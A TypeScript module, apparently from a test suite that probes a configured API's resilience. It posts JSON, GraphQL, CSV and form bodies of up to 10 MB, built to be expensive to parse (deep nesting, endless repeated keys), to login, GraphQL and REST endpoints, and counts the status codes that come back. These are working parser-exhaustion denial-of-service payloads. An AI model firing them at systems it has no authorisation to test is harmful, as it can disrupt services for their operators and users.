// Sends bodies that take long to parse.

import { ask } from "../ask.ts";
import { type Attack, failureOf, Outcomes, repeat } from "../attack.ts";
import { ANON_KEY, credentials, HONEST_TOKEN } from "../callers.ts";

const AT_ONCE = 2;

/** A user may send a longer body than an anonymous caller. */
const SENDERS = [
  { headers: { apikey: ANON_KEY }, bytes: 2 ** 20 },
  { headers: { apikey: ANON_KEY }, bytes: 10 * 2 ** 20 },
  { headers: credentials(HONEST_TOKEN), bytes: 2 ** 20 },
  { headers: credentials(HONEST_TOKEN), bytes: 10 * 2 ** 20 },
];

/** A body up to the maximum size: the start, as many repetitions of the piece as fit, and the end. */
type Bomb = { readonly path: string; readonly type: string; readonly body: readonly [string, string, string] };

const json = "application/json";
const lists = ["[", "[],", "[]]"] as const;
const open = ["", "[", ""] as const;
const keys = ["{", '"":0,', '"":0}'] as const;

const BOMBS: readonly Bomb[] = [
  ...["/rest/v1/marks", "/users", "/auth/login", "/graphql", "/rest/v1/rpc/search"].flatMap((path) =>
    [lists, open, keys].map((body) => ({ path, type: json, body })),
  ),
  { path: "/graphql", type: json, body: ['{"query":"{a}","variables":{"a":[', "[],", "[]]}}"] },
  { path: "/graphql", type: json, body: ['{"query":"', "{a ", '"}'] },
  // The quote at the end makes it invalid CSV, so no row is written.
  { path: "/rest/v1/marks", type: "text/csv", body: ["note\n", "a\n", '"'] },
  { path: "/rest/v1/marks", type: "text/csv", body: ["note,ref\n", ",\n", '"'] },
  ...["/rest/v1/marks", "/auth/login"].map((path) => ({
    path,
    type: "application/x-www-form-urlencoded",
    body: ["", "a=&", "a="] as const,
  })),
];

export const attack: Attack = async (target) => {
  const outcomes = new Outcomes();
  let next = 0;
  await repeat(target, { times: AT_ONCE, pauseMs: 50 }, async () => {
    const turn = next++;
    const { headers, bytes } = SENDERS[turn % SENDERS.length]!;
    const { path, type, body } = BOMBS[Math.floor(turn / SENDERS.length) % BOMBS.length]!;
    const sent = ask(target.url + path, {
      method: "POST",
      headers: { ...headers, "Content-Type": type },
      body: filled(body, bytes),
    });
    outcomes.count(await sent.then(({ status }) => String(status), failureOf));
  });
  return outcomes.result;
};

function filled([start, piece, end]: Bomb["body"], bytes: number): Buffer {
  const room = bytes - Buffer.byteLength(start + end);
  return Buffer.from(start + piece.repeat(Math.floor(room / piece.length)) + end);
}
